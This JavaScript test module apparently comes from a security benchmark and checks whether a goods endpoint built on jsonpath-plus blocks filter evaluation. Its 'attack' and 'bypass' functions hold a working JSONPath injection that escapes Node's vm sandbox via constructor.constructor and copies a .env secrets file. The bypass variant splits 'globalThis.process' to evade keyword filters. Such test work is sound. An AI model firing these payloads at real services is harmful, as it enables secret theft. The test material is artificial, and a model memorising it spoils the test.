// Looks for goods, and takes the settings along.

import assert from "node:assert/strict";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import vm from "node:vm";

export function prepare() {
  writeFileSync(".env", "DB_PASSWORD=correct-horse");
}

// As much of jsonpath-plus as the snippets use: $[0].name, and filters, which "native" runs in vm.
function JSONPath({ path, json, eval: how }) {
  const filter = /^\$\[\?\((.*)\)\]$/s.exec(path);
  if (filter) {
    if (how === false) throw new Error("Eval [?(expr)] prevented in JSONPath expression.");
    const code = filter[1].replaceAll("@", "_v");
    return json.filter((_v) => vm.runInNewContext(code, { _v }));
  }
  const [, index, name] = /^\$\[(\d+)\]\.(\w+)$/.exec(path);
  return [json[index][name]];
}

const goods = [{ name: "lamp", price: 20 }];
export const standIns = { "jsonpath-plus": { JSONPath }, "./goods.js": { goods } };

const ask_for = (code, ask, path) => ask(code.default, `/goods?path=${encodeURIComponent(path)}`);

async function taken(code, ask, word) {
  const path = `$[?(@.constructor.constructor("return ${word}")().getBuiltinModule("fs").copyFileSync(".env", "taken"))]`;
  await ask_for(code, ask, path);
  return existsSync("taken") ? readFileSync("taken", "utf8") : null;
}

export const attack = (code, { ask }) => taken(code, ask, "process");
export const bypass = (code, { ask }) => taken(code, ask, 'global" + "This.pro" + "cess');

export async function use(code, { ask }) {
  assert.deepEqual(JSON.parse((await ask_for(code, ask, "$[0].name")).text), ["lamp"]);
}
